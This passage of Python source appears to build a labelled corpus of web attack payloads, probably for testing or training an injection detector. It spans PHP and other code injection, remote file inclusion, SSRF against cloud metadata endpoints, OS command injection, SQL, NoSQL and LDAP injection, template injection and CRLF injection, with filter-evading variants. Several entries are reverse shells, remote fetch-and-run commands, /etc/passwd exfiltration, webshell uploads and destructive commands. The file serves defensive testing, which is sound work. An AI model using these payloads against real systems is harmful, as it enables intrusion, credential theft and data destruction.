    E("array_map('system',array('id'))"),
    E("array_filter(['ls -la /var/www'],'passthru')"),
    E("$_GET['f']($_GET['c']);"),
    E("file_put_contents('x.php','<?php eval($_REQUEST[9]);');"),
    E("include('data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+');"),
    E(
        php_obj(
            "Illuminate\\Broadcasting\\PendingBroadcast",
            [
                (
                    "\x00*\x00events",
                    php_obj("Faker\\Generator", [("\x00*\x00formatters", 'a:1:{s:8:"dispatch";s:6:"system";}')]),
                ),
                ("\x00*\x00event", php_s("id")),
            ],
        ),
        "cookie",
        cookie="laravel_cart",
    ),
    E(
        'a:2:{i:0;s:4:"cart";i:1;%s}'
        % php_obj(
            "GuzzleHttp\\Cookie\\FileCookieJar",
            [
                (
                    "cookies",
                    'a:1:{i:0;O:27:"GuzzleHttp\\Cookie\\SetCookie":1:{s:4:"data";a:1:{s:5:"Value";s:30:"<?php system($_GET[\'c\']); ?>";}}}',
                ),
                ("filename", php_s("/var/www/html/c.php")),
            ],
        ),
        "form",
    ),
    E("phar:///var/www/uploads/avatar.jpg/test.txt", "json"),
    E("<?php echo shell_exec($_SERVER['HTTP_X_CMD']); ?>", "mp_file", fn="avatar.php.jpg", ctype_file="image/jpeg"),
    E('GIF89a;\n<?php passthru($_GET["x"]); ?>', "mp_file", fn="logo.gif", ctype_file="image/gif"),
    E(
        'AddType application/x-httpd-php .jpg\nphp_value auto_prepend_file "/var/www/uploads/x.jpg"\n',
        "mp_file",
        fn=".htaccess",
        ctype_file="text/plain",
    ),
    E("exec('id',$o);print_r($o);"),
    E("var_dump(scandir('/'));"),
    E("highlight_file('/var/www/html/config.php');"),
    E("pcntl_exec('/bin/sh',['-c','id']);"),
    E("proc_open('id',[1=>['pipe','w']],$p);echo stream_get_contents($p[1]);"),
    E("popen('uname -a','r');"),
    E("register_shutdown_function('system','id');"),
    E("ini_set('allow_url_include',1);include('http://198.51.100.12/s.txt');"),
    E("<?php $c=$_COOKIE['c'];@eval(gzinflate(base64_decode($c)));?>", "json"),
    E(
        {"variableName": "username", "viewFile": "phar://../storage/logs/laravel.log/test.txt"},
        "json",
        json={"solution": "Facade\\Ignition\\Solutions\\MakeViewVariableOptionalSolution", "parameters": P},
        path="/_ignition/execute-solution",
    ),
    E("-d allow_url_include=1 -d auto_prepend_file=php://input", "query_key", bare=True, path="/index.php"),
    H("<?=`$_GET[0]`?>", "mp_file", fn="thumb.phtml"),
    H("call_user_func('sys'.'tem','id');"),
    H("$f='sy'.'st'.'em';$f('ls -la');"),
    H("chr(115).chr(121).chr(115).chr(116).chr(101).chr(109)('id');"),
    H(r'"\x73\x79\x73\x74\x65\x6d"("id");'),
    H(r'"\163\171\163\164\145\155"("whoami");'),
    H('<script language="php">system("id");</script>', "form"),
    H("<?PhP SySTeM($_REQUEST['q']);", "mp_file", fn="notes.pHp5"),
    H("{${phpinfo()}}"),
    H("passthru(urldecode('%69%64'));"),
    H('$_="`{{{"^"?<>/";${$_}[_](${$_}[__]);'),
    H("('sy'.'stem')('id');"),
    H("(new ReflectionFunction('system'))->invoke('id');"),
    H("$x=str_rot13('flfgrz');$x('id');"),
    H("ob_start('system');echo 'id';ob_end_flush();"),
    H("eval(gzinflate(base64_decode('%s')));" % b64(zlib.compress(b"system('cat /etc/passwd');")[2:-4])),
    H("%3C%3Fphp%20system%28%27id%27%29%3B%20%3F%3E", "query"),
    H(b64('O:8:"Backdoor":1:{s:3:"cmd";s:2:"id";}'), "cookie", cookie="user_prefs"),
    H("-dallow_url_include%3d1+-dauto_prepend_file%3dphp://input", "query_key", bare=True, path="/php-cgi/php-cgi.exe"),
    H("<?php\t$a\t=\t'ass'.'ert';\t$a($_POST['z']);", "mp_field"),
]

CODE = [
    E("__import__('os').system('id')"),
    E("__import__('os').popen('cat /etc/passwd').read()"),
    E("eval(compile('import os;os.system(\"id\")','x','exec'))"),
    E("exec(\"import subprocess;subprocess.call(['sh','-c','id'])\")"),
    E(
        "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='catch_warnings'][0]()._module.__builtins__['__import__']('os').system('id')"
    ),
    E("open('/etc/passwd').read()"),
    E("1;\nimport os\nos.system('curl -s http://203.0.113.77/x | sh')", "json"),
    E('!!python/object/apply:os.system ["id"]\n', "mp_file", fn="config.yaml"),
    E('!!python/object/new:subprocess.check_output [["ls","-la","/"]]\n', "json"),
    E("require('child_process').exec('id')"),
    E("require('child_process').execSync('cat /etc/passwd').toString()"),
    E("process.mainModule.require('child_process').execSync('whoami')"),
    E("require('fs').readFileSync('/etc/passwd','utf8')"),
    E("res.end(require('fs').readdirSync('.').toString())"),
    E({"rce": "_$$ND_FUNC$$_function(){require('child_process').exec('id',function(e,o){console.log(o)})}()"}, "json"),
    E("new Function('return process')().exit()"),
    E("'+require('util').inspect(process.env)+'"),
    E("Kernel.system('cat /etc/passwd')"),
    E("IO.popen('id').read"),
    E("send(:eval, \"File.read('/etc/passwd')\")"),
    E('"#{`whoami`}"'),
    E(
        '--- !ruby/object:Gem::Requirement\nrequirements:\n  !ruby/object:Gem::DependencyList\n  specs:\n  - !ruby/object:Gem::Source::SpecificFile\n    spec: &1 !ruby/object:Gem::StubSpecification\n      loaded_from: "|id 1>&2"\n',
        "mp_file",
        fn="settings.yml",
    ),
    E("print qx{cat /etc/passwd};"),
    E('open(my $fh, "id|"); print <$fh>;'),
    E('__import__("subprocess").check_output("id",shell=True)'),
    E("(lambda: __import__('os').execl('/bin/sh','sh','-c','id'))()"),
    E("globals()['__builtins__']['eval'](\"__import__('os').system('id')\")"),
    E("require('vm').runInNewContext('this.constructor.constructor(\"return process\")().exit()')"),
    E('Class.new.class_eval("`id`")'),
    E("{self.__init__.__globals__[__builtins__][__import__]}", "json"),
    H("getattr(__import__('o'+'s'),'sys'+'tem')('id')"),
    H("__import__(chr(111)+chr(115)).system(chr(105)+chr(100))"),
    H("exec(bytes.fromhex('%s').decode())" % b"import os;os.system('id')".hex()),
    H("exec(__import__('base64').b64decode('%s'))" % b64("import os;os.system('uname -a')")),
    H("__builtins__.__dict__['__imp'+'ort__']('os').system('id')"),
    H(b64(b"cposix\nsystem\n(S'id'\ntR."), "cookie", cookie="session_data"),
    H(
        b64(
            b"\x80\x04\x95\x1e\x00\x00\x00\x00\x00\x00\x00\x8c\x02os\x94\x8c\x06system\x94\x93\x94\x8c\x06whoami\x94\x85\x94R\x94.",
            urlsafe=True,
            pad=False,
        ),
        "json",
    ),
    H("global.process.mainModule.constructor._load('child_process').exec('id')"),
    H("this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')"),
    H("eval(String.fromCharCode(%s))" % ",".join(str(ord(c)) for c in "require('child_process')")),
    H("require('ch'+'ild_pro'+'cess')['ex'+'ecSync']('id')"),
    H(r"\u0072equire('child_process').exec('id')", "json"),
    H("import('child_process').then(m=>m.execSync('id'))"),
    H("Object.const_get(:Kernel).send(:system,'id')"),
    H("open('|id').read"),
    H("%x{uname -a}"),
    H('eval(pack("H*","%s"))' % b"system('id')".hex()),
    H('@{[system "whoami"]}'),
    H("1;eval(atob('%s'))" % b64('require("child_process").exec("id")', pad=False)),
    H("__import__\t(\t'os'\t)\t.\tsystem\t(\t'id'\t)"),
]

RFI = [
    E("http://198.51.100.14/shell.txt?"),
    E("https://files.cdn-static.xyz/inc/c99.txt"),
    E("http://203.0.113.50/r57.txt\x00"),
    E("ftp://anonymous:guest@198.51.100.9/pub/inc.php"),
    E("\\\\203.0.113.8\\share\\shell.php"),
    E("//198.51.100.22/x.php"),
    E("data://text/plain;base64,%s" % b64("<?php system($_GET['c']); ?>")),
    E("data:text/plain,<?php phpinfo();?>"),
    E("php://input", "query", param="page", path="/index.php"),
    E("php://filter/read=convert.base64-encode/resource=index.php"),
    E("expect://id"),
    E("expect://ls -la"),
    E("zip://uploads/avatar.zip#shell.php"),
    E("phar:///var/www/uploads/img.gif/shell"),
    E("compress.zlib://http://198.51.100.30/a.php"),
    E("http://attacker-files.net/x.txt#"),
    E("https://raw.githubusercontent.com.attacker-cdn.xyz/payload.php"),
    E("jar:http://198.51.100.70/evil.jar!/Exploit.class"),
    E("http://pastebin-raw.top/raw/Xk29aQ"),
    E("https://cdn-assets.attackerhost.net/t.vm", "json"),
    E("smb://198.51.100.80/share/x.php"),
    E("https://198.51.100.91:8443/inc.php?cmd=id"),
    E("https://gist.githubusercontent-cdn.com/u/raw/1/shell.txt"),
    E("http://198.51.100.41/shell.jpg"),
    E("ftps://198.51.100.43/x.php"),
    E("http://203.0.113.19/wso.txt??", "cookie", cookie="lang"),
    E("php://filter/string.rot13/resource=config.php"),
    E("http://198.51.100.55/cmd.txt?&cmd=id"),
    E("https://evil-includes.net/shell.php%00", "form"),
    E("php://filter/convert.iconv.utf-8.utf-16/resource=/etc/passwd"),
    H("hTtP://203.0.113.5/p.txt"),
    H("http://0xcb.0x0.0x71.0x14/sh.txt"),
    H("http://3405803794/inc.txt"),
    H("HTTP%3A%2F%2F198.51.100.61%2Fc.txt"),
    H("http:%2f%2f198.51.100.62/b.txt"),
    H("php://filter/convert.base64-decode/resource=data://plain/text,PD9waHAgc3lzdGVtKCdpZCcpOz8+"),
    H("php://filter/zlib.deflate/convert.base64-encode/resource=/etc/passwd"),
    H("dAtA:;bAsE64,%s" % b64("<?=`id`?>")),
    H("\\\\attacker-share.net@SSL\\DavWWWRoot\\x.php"),
    H("http://shop.larkspur-goods.com@198.51.100.90/inc.txt"),
    H("http://[::ffff:cb00:7123]/x.txt"),
    H("data://text/plain;base64,%s" % b64("<?php echo shell_exec('id'); ?>", pad=False)),
    H("ssh2.exec://user:pass@198.51.100.40:22/id"),
    H("http://%32%30%33.0.113.42/c.txt"),
    H("%68%74%74%70%3a%2f%2f198.51.100.44%2fs.txt"),
    H("PHP://FiLtEr/resource=http://198.51.100.45/x.php"),
    H("\u0068ttp\uff1a//198.51.100.46/inc.txt"),
    H("http://198.51.100.47/\tshell.txt"),
    H("data:text/plain;base64,%s" % b64("<?php system($_GET[1]);", urlsafe=True)),
    H("%252e%252e/%252e%252e/http://198.51.100.48/a.txt"),
]

SSRF = [
    E("http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    E("http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    E("http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
    E("http://100.100.100.200/latest/meta-data/"),
    E("http://[fd00:ec2::254]/latest/meta-data/"),
    E("http://169.254.170.2/v2/credentials/"),
    E("http://127.0.0.1:6379/"),
    E("http://localhost:8500/v1/agent/self"),
    E("http://[::1]:8080/actuator/env"),
    E("gopher://localhost:25/_HELO%20x%0D%0AMAIL%20FROM%3A%3Cx%40y%3E%0D%0A"),
    E("dict://127.0.0.1:11211/stats"),
    E("file:///etc/passwd"),
    E("file://localhost/c:/windows/win.ini"),
    E("http://10.20.0.15:8080/manager/html"),
    E("http://192.168.1.1/cgi-bin/luci"),
    E("http://172.17.0.1:2375/v1.41/containers/json"),
    E("https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets"),
    E("http://127.0.0.1:10255/pods"),
    E("http://127.0.0.1:8500/v1/kv/?recurse"),
    E("http://0.0.0.0:22/"),
    E("http://instance-data/latest/meta-data/hostname"),
    E("jar:http://127.0.0.1:8080/internal.jar!/"),
    E("https://redirector-svc.net/r?to=http://169.254.169.254/"),
    E("http://169.254.169.254/latest/api/token", "xml"),
    E("http://localhost:15672/api/users", "json"),
    E("http://127.0.0.1:9200/_cat/indices?v", "header", hdr="X-Callback-Url"),
    E("sftp://attacker-host.net:11111/"),
    E("http://localhost/server-status", "path"),
    E("http://10.0.0.5:8080/admin", "form"),
    E("//169.254.169.254/latest/meta-data"),
    H("http://127.1/admin"),
    H("http://0/"),
    H("http://2130706433/"),
    H("http://0x7f000001/"),
    H("http://017700000001/"),
    H("http://0177.0.0.01/server-status"),
    H("http://0x7f.1/"),
    H("http://[::ffff:127.0.0.1]/"),
    H("http://[::ffff:a9fe:a9fe]/latest/meta-data/"),
    H("http://[0:0:0:0:0:ffff:7f00:1]:9200/_cat/indices"),
    H("http://169.254.169.254.nip.io/latest/user-data"),
    H("http://127.0.0.1.sslip.io:2375/containers/json"),
    H("http://7f000001.c0a80001.rbndr.us/"),
    H("http://trusted-cdn.net@127.0.0.1:8000/"),
    H("http://127.0.0.1#@images.trusted-cdn.net/"),
    H("http://127.0.0.1\\@partner-api.net/"),
    H("gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A"),
    H("http://\u2460\u2461\u2466.\u24ea.\u24ea.\u2460/"),
    H("http://2852039166/latest/meta-data/"),
    H("http://0251.0376.0251.0376/latest/meta-data/"),
]

RCE = [
    E("; id"),
    E("| cat /etc/passwd"),
    E("&& whoami"),
    E("$(id)"),
    E("`uname -a`"),
    E("127.0.0.1; ls -la /"),
    E("127.0.0.1 | nc 198.51.100.3 4444 -e /bin/sh"),
    E("$(curl -s http://203.0.113.61/s.sh|bash)"),
    E(";bash -i >& /dev/tcp/198.51.100.4/9001 0>&1"),
    E("| powershell -nop -c \"iex(New-Object Net.WebClient).DownloadString('http://198.51.100.5/a.ps1')\""),
    E("& type C:\\Windows\\win.ini"),
    E("&& net user"),
    E("||sleep 10||"),
    E(';/bin/sh -c "id"'),
    E("photo.png; rm -rf /tmp/*"),
    E("$(nslookup $(whoami).oast-7.example-c2.net)"),
    E(";cat /etc/passwd #"),
    E("a`id`b"),
    E("|| curl -d @/etc/passwd http://203.0.113.62/"),
    E("|| type %SYSTEMROOT%\\win.ini"),
    E("& ver &"),
    E(";perl -e 'system(\"id\")'"),
    E(";python3 -c 'import pty;pty.spawn(\"/bin/sh\")'"),
    E("|nc -lvp 4444 -e /bin/bash"),
    E(";awk 'BEGIN{system(\"id\")}'"),
    E(";find / -perm -4000 2>/dev/null"),
    E("() { :; }; /bin/bash -c 'id'", "header", hdr="User-Agent", path="/cgi-bin/status"),
    E("scan.pdf; curl 198.51.100.7|sh #", "mp_filename"),
    E("\nwget http://198.51.100.6/x -O /tmp/x;chmod +x /tmp/x;/tmp/x"),
    E("8.8.8.8 && cat /proc/version", "json"),
    H(";cat${IFS}/etc/passwd"),
    H(";w'h'o'a'm'i"),
    H(";wh$@oami"),
    H(";c\\at /et\\c/pas\\swd"),
    H("8.8.8.8\nid"),
    H(";{cat,/etc/passwd}"),
    H(";cat</etc/passwd"),
    H("$(printf '\\x69\\x64')"),
    H(";echo aWQ=|base64 -d|sh"),
    H(";$(echo 'd2hvYW1p'|base64 --decode)"),
    H("x;/???/c?t /???/p??s??"),
    H(";ca''t /etc/shadow"),
    H(";sleep${IFS}5;"),
    H(";IFS=,;cmd=cat,/etc/passwd;$cmd"),
    H(";X=$'\\x63\\x61\\x74';$X /etc/hostname"),
    H(";cat\t/etc/passwd"),
    H("%0Aid%0A"),
    H(";powershell -enc %s" % base64.b64encode("whoami".encode("utf-16-le")).decode()),
    H("$(</etc/passwd)"),
    H("() { _; } >_[$($())] { echo; /usr/bin/id; }", "header", hdr="Referer", path="/cgi-bin/test.cgi"),
]

SQLI = [
    E("' OR '1'='1"),
    E("1' OR 1=1-- -"),
    E("admin'--"),
    E("1 UNION SELECT username,password FROM users--"),
    E("' UNION ALL SELECT NULL,NULL,table_name FROM information_schema.tables-- "),
    E("1 AND SLEEP(5)"),
    E("1'; WAITFOR DELAY '0:0:5'--"),
    E("1) AND (SELECT 1 FROM (SELECT SLEEP(4))x)-- "),
    E("' AND extractvalue(1,concat(0x7e,(SELECT version())))-- "),
    E("1 AND updatexml(1,concat(0x3a,user()),1)"),
    E("'; DROP TABLE sessions;--"),
    E("1;EXEC xp_cmdshell('whoami')--"),
    E("' OR pg_sleep(5)--"),
    E("1' AND ascii(substring((select password from users limit 1),1,1))>64-- "),
    E("admin' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects))--"),
    E("1 AND 1=(SELECT COUNT(*) FROM all_users)"),
    E("' || (SELECT utl_inaddr.get_host_name((select banner from v$version where rownum=1)) FROM dual)--"),
    E("1 ORDER BY 10-- "),
    E("name,(CASE WHEN (1=1) THEN name ELSE price END)"),
    E(
        "1' AND (SELECT 6810 FROM(SELECT COUNT(*),CONCAT(0x71,(SELECT database()),0x71,FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)-- "
    ),
    E("' UNION SELECT load_file('/etc/passwd'),2-- "),
    E("1;SELECT pg_read_file('/etc/passwd')"),
    E("';COPY (SELECT '') TO PROGRAM 'id'--"),
    E("1 AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(300000000/2))))"),
    E("') OR ('a'='a"),
    E('")) OR 1=1 LIMIT 1-- '),
    E("1' union select 1,concat(user,0x3a,password) from mysql.user#"),
    E("price;SELECT pg_sleep(3)", "json_key"),
    E("127.0.0.1' AND SLEEP(3)-- -", "header", hdr="X-Forwarded-For"),
    E("abc' OR 1=1--", "cookie", cookie="session_user"),
    H("-1'/**/UNION/**/SELECT/**/1,2,3-- "),
    H("1'/*!50000UNION*//*!50000SELECT*/1,user(),3-- "),
    H("' oR 1 lIkE 1 -- "),
    H("%27%20OR%201%3D1--"),
    H("1 UnIoN\nSeLeCt 1,2,@@version"),
    H("1'||(SELECT CHAR(113)||CHAR(118)||CHAR(106))||'"),
    H("' AND 'a'=CHAR(97)-- "),
    H("1 and 0x61646d696e=0x61646d696e"),
    H("'='"),
    H("1\u00a0OR\u00a01=1"),
    H("1\tOR\t2>1"),
    H("1'\x0bOR\x0b'1'='1"),
    H("' INTO OUTFILE '/var/www/html/s.php' LINES TERMINATED BY 0x%s-- " % b"<?php system($_GET[0]); ?>".hex()),
    H("1' AND JSON_EXTRACT('{\"a\":1}','$.a')=1-- "),
    H("1' \uff35\uff2e\uff29\uff2f\uff2e \uff33\uff25\uff2c\uff25\uff23\uff34 password FROM users-- "),
    H("1'/**/AnD/**/BENCHMARK(5000000,MD5(1))#"),
    H("1.0union select null,version()"),
    H("-1 OR 3*2=6"),
    H("';EXEC master..xp_dirtree '\\\\198.51.100.9\\x'--"),
    H("1'%2b(select%20if(1=1,sleep(2),0))%2b'"),
]

NOSQLI = [
    E("username[$ne]", "form_key", form=[("username", P), ("password", "x")], kval="admin"),
    E("password[$regex]", "form_key", form=[("username", "admin"), ("password", P)], kval=".*"),
    E("user[$gt]", "query_key", path="/api/v1/login", kval=""),
    E({"$ne": None}, "json"),
    E({"$gt": ""}, "json"),
    E({"$regex": "^adm", "$options": "i"}, "json"),
    E({"$where": "sleep(5000)"}, "json"),
    E({"$where": "this.password.match(/^a.*/)"}, "json"),
    E("$where", "json_key"),
    E("'; return true; var x='"),
    E("' || 1==1//"),
    E({"$expr": {"$eq": [1, 1]}}, "json"),
    E({"$in": ["admin", "root", "superuser"]}, "json"),
    E({"$nin": [""]}, "json"),
    E({"$exists": True}, "json"),
    E({"$or": [{}, {"a": "a"}]}, "json"),
    E({"$function": {"body": "function(){return true}", "args": [], "lang": "js"}}, "json"),
    E(
        [{"$match": {}}, {"$lookup": {"from": "users", "localField": "owner", "foreignField": "_id", "as": "u"}}],
        "json",
    ),
    E("filter[password][$regex]", "query_key", kval="^a"),
    E({"selector": {"_id": {"$gt": None}}}, "json", json={"db": "orders", "query": P}, path="/api/v1/couch/find"),
    E("';return db.getCollectionNames();var a='"),
    E("true, $where: '1 == 1'"),
    E("admin' && this.password.length > 0 && '1'=='1"),
    E({"username": {"$regex": "^a"}, "password": {"$ne": 1}}, "json", json={"credentials": P}, path="/api/v1/session"),
    E('{"password":{"$regex":"^p"}}', "query", param="where"),
    E("q[$where]", "form_key", form=[("q", P)], kval="1==1"),
    E(
        {
            "$accumulator": {
                "init": "function(){return 1}",
                "accumulate": "function(){}",
                "accumulateArgs": [],
                "merge": "function(){}",
                "lang": "js",
            }
        },
        "json",
    ),
    E('{"owner":{"$ne":null}}', "header", hdr="X-Filter"),
    E({"$elemMatch": {"$ne": None}}, "json"),
    E("pin[$ne]", "form_key", form=[("account", "4417"), ("pin", P)], kval="0000"),
    H({"$ne": "x"}, "json", jmode="esc"),
    H("pass%5B%24ne%5D", "query_key", kval="1"),
    H('j:{"$ne":null}', "cookie", cookie="session"),
    H({"$where": "function(){var d=new Date();do{}while(new Date()-d<4000);return true}"}, "json"),
    H("%7B%22%24gt%22%3A%22%22%7D", "query", param="password"),
    H({"$regex": ".{24}"}, "json"),
    H({"$where": "Object.keys(this)[0].match('^.{0}a.*')"}, "json", jmode="esc"),
    H("a'; return this.role == 'admin'; var b='"),
    H("||'a'=='a"),
    H({"$not": {"$eq": "x"}}, "json"),
    H("email[%24regex]", "form_key", form=[("email", P), ("token", "x")], kval="@"),
    H({"$jsonSchema": {"required": ["_id"]}}, "json"),
    H("login[\uff04ne]", "form_key", form=[("login", P), ("password", "y")], kval="u"),
    H('{"\\u0024where":"1==1"}', "query", param="filter"),
    H({"$or": [{"role": {"$regex": "adm"}}, {"isAdmin": True}]}, "json", jmode="esc"),
    H("$expr", "json_key_deep", jmode="esc"),
    H('{"$gt":null}', "path", path="/api/v1/users/{}"),
    H("');sleep(3000);('", "json"),
    H("tenant[$nin][]", "query_key", kval="none"),
    H({"$size": 0}, "json_deep"),
]

LDAPI = [
    E("*)(uid=*))(|(uid=*"),
    E("admin)(&)"),
    E("*)(|(objectClass=*)"),
    E("admin*)((|userPassword=*)"),
    E("*)(cn=*"),
    E(")(|(password=*))"),
    E("*))\x00"),
    E("admin)(!(&(1=0)"),
    E("x*)(userPassword=A*)"),
    E("jdoe)(|(memberOf=cn=Domain Admins,cn=Users,dc=corp,dc=local)"),
    E("*)(&(objectCategory=person)(objectClass=user)(sAMAccountName=*"),
    E("*)(description=*pass*"),
    E("admin)(|(uid=admin)(uid=*)"),
    E("*()|&'"),
    E("*)(uidNumber>=0"),
    E("admin))(|(cn="),
    E("*)(!(cn=x))(cn=*"),
    E("cn=admin,dc=corp,dc=local)(objectClass=*"),
    E("*)(mail=*@*"),
    E("admin)(&(objectClass=*)(uid=admin"),
    E("(&(uid=*)(userPassword=*))"),
    E("*)(|(memberOf=*admin*)"),
    E("*)(homeDirectory=*"),
    E("*)(unicodePwd=*"),
    E("*)(|(uid=root)(uid=administrator)"),
    E(")(objectClass=*))(&(objectClass=void"),
    E("*)(givenName=*)(|(sn=*"),
    E("*)(uid=*)(userPassword=*", "header", hdr="X-Remote-User"),
    E("ou=people,dc=corp,dc=example)(|(ou=*", "json"),
    E("*)(sAMAccountName=krbtgt"),
    H("\\2a)(\\7c(uid=\\2a"),
    H("%2a%29%28uid%3d%2a"),
    H("*\\29\\28cn=*"),
    H("*)\x00(uid=*"),
    H("* ) ( | ( uid = * )"),
    H("%u002a%u0029%u0028uid=%u002a"),
    H("*)(&(objectClass=user)(userAccountControl:1.2.840.113556.1.4.803:=2)"),
    H("x)(|(cn~=admin)"),
    H("admin)(cn:dn:=admin"),
    H("admin)(userPassword:2.5.13.18:=secret"),
    H("\\2a\\29\\28objectClass\\3d\\2a"),
    H("*)(ObJeCtClAsS=*"),
    H("adm*)(|(uid=*))%00"),
    H("*)%28%7C%28mail%3D*"),
    H("\uff0a)(uid=*"),
    H("*)(\tuid=*"),
    H("*))(|(objectClass=*", "json", jmode="esc"),
    H("*)(userPassword=\\2a", "cookie", cookie="dir_user"),
    H("jsmith)(|(employeeType=*)(telephoneNumber=*)", "query_key"),
    H("*)(entryUUID=*)(|(uid=*", "form"),
]

SSTI = [
    E("{{7*'7'}}"),
    E("{{config.items()}}"),
    E("{{''.__class__.__mro__[1].__subclasses__()}}"),
    E("{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    E("{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}"),
    E("{{lipsum.__globals__['os'].popen('whoami').read()}}"),
    E("{{ self._TemplateReference__context.joiner.__init__.__globals__.os.popen('uname -a').read() }}"),
    E(
        "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='Popen' %}{{c('id',shell=True,stdout=-1).communicate()}}{% endif %}{% endfor %}"
    ),
    E("{{ get_flashed_messages.__globals__.__builtins__.open('/etc/passwd').read() }}"),
    E("${7*7}"),
    E('<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}'),
    E('${"freemarker.template.utility.Execute"?new()("whoami")}'),
    E("#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($ex=$rt.getRuntime().exec('id'))$ex.waitFor()"),
    E("*{T(java.lang.Runtime).getRuntime().exec('id')}"),
    E('__${T(java.lang.Runtime).getRuntime().exec("id")}__::.x', "path"),
    E('<%= system("id") %>'),
    E("<%= `ls /` %>"),
    E("<%= File.open('/etc/passwd').read %>"),
    E("#{global.process.mainModule.require('child_process').execSync('id')}"),
    E(
        '{{#with "s" as |string|}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub "constructor")}}{{/with}}{{/with}}'
    ),
    E("{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}"),
    E("<%- global.process.mainModule.require('child_process').execSync('id') %>"),
    E("{system('id')}"),
    E("{php}echo `id`;{/php}"),
    E('{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}'),
    E("{{['id']|filter('system')}}"),
    E('${self.module.cache.util.os.system("id")}'),
    E("{% import os %}{{os.popen('id').read()}}"),
    E("{{ settings.SECRET_KEY }}"),
    E('@(System.Diagnostics.Process.Start("cmd.exe","/c whoami"))'),
    H("{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')}}"),
    H("{{()|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fbase\\x5f\\x5f')}}"),
    H('{{ ()|attr(["_"*2,"class","_"*2]|join) }}'),
    H("{{ request|attr(request.args.a) }}"),
    H('{{ (dict.mro()[-1]|attr("\\x5f\\x5fsubclasses\\x5f\\x5f"))() }}'),
    H('{{ lipsum|attr("\\u005f\\u005fglobals\\u005f\\u005f") }}'),
    H("{{   config['__class__'].__init__.__globals__['os'].popen('id').read()   }}"),
    H("${{<%[%'\"}}%\\."),
    H("{%print(lipsum.__globals__.os.popen('id').read())%}"),
    H("{{x.__init__.__globals__.__builtins__.eval(\"__import__('os').popen('id').read()\")}}"),
    H('$class.inspect("java.lang.Runtime").type.getRuntime().exec("id")'),
    H("{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('id') }}"),
    H("&#123;&#123;7*191&#125;&#125;"),
    H("%7B%7B7*797%7D%7D"),
    H("{{''|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fmro\\x5f\\x5f')}}"),
    H("{{ lipsum.__globals__.os.popen(request.cookies.c).read() }}"),
    H("{{['cat /etc/passwd']|map('passthru')|join}}"),
    H("{{\n  cycler.__init__.__globals__.os.popen('id').read()\n}}"),
    H(
        "{{ \"\".__class__.__base__.__subclasses__()[132].__init__.__globals__['popen']('id').read() }}",
        "json",
        jmode="esc",
    ),
    H("\uff5b\uff5b7*7\uff5d\uff5d"),
]

CRLF = [
    E("/dashboard\r\nSet-Cookie: session=7f3a9c; Path=/"),
    E("https://shop.larkspur-goods.com/\r\nLocation: https://phish-login.net/"),
    E("en\r\nX-XSS-Protection: 0\r\n\r\n<script>alert(document.domain)</script>"),
    E("\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<html>owned</html>"),
    E("shop.larkspur-goods.com%0d%0aSet-Cookie:%20a=1", "header", hdr="X-Forwarded-Host"),
    E("en-US\r\nSet-Cookie: admin=true", "cookie", cookie="lang"),
    E("utf-8\r\nContent-Type: text/html"),
    E("\r\nAccess-Control-Allow-Origin: https://evil-origin.net\r\nAccess-Control-Allow-Credentials: true"),
    E("\r\nLink: <https://cdn-evil.net/x.css>; rel=stylesheet"),
    E("\r\nHTTP/1.1 302 Found\r\nLocation: https://phishing-site.net"),
    E("https://ref.example/%0d%0aX-Injected:%20yes", "header", hdr="Referer"),
    E("Mozilla/5.0%0d%0aX-Forwarded-For: 127.0.0.1", "header", hdr="User-Agent"),
    E("/account\r\nX-Forwarded-For: 127.0.0.1"),
    E("/\r\nCache-Control: public, max-age=31536000"),
    E("\r\nContent-Disposition: attachment; filename=update.exe"),
    E("/home\r\n\r\nGET /admin HTTP/1.1\r\nHost: localhost"),
    E("\r\nX-Accel-Redirect: /internal/secrets/db.yml"),
    E("/\r\nLocation: /\r\nX-Original-URL: /admin"),
    E("report.pdf\r\nContent-Type: text/html", "json"),
    E("/promo\r\nSet-Cookie: JSESSIONID=FIXATED123; HttpOnly", "xml"),
    E("\r\nRefresh: 3; url=https://phish-pages.net/login"),
    E("/login?next=/\r\nSet-Cookie: csrftoken=fixated", "form"),
    E("\r\nStrict-Transport-Security: max-age=0"),
    E("/cb\r\nX-Frame-Options: ALLOWALL"),
    E("\r\nVary: X-Evil\r\n\r\n"),
    E("/en\r\nContent-Security-Policy: script-src *"),
    E("\r\nSet-Cookie: tracking=1; Domain=.larkspur-goods.com; Max-Age=99999999"),
    E("/next\r\nAuthorization: Basic YWRtaW46YWRtaW4="),
    E("/\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"),
    E("x\r\nSet-Cookie: a=b", "query_key"),
    H("/%0d%0aSet-Cookie:crlf=1"),
    H("/%E5%98%8A%E5%98%8DSet-Cookie:x=1"),
    H("/\u560a\u560dLocation:https://evil-redirect.net"),
    H("\rSet-Cookie: lone_cr=1"),
    H("\nRefresh: 0; url=https://phish-pages.net/"),
    H("%0aX-Injected: 1"),
    H("%u000d%u000aSet-Cookie: a=b"),
    H("%c0%8d%c0%8aSet-Cookie: ov=1"),
    H("%250d%250aLocation: //198.51.100.7"),
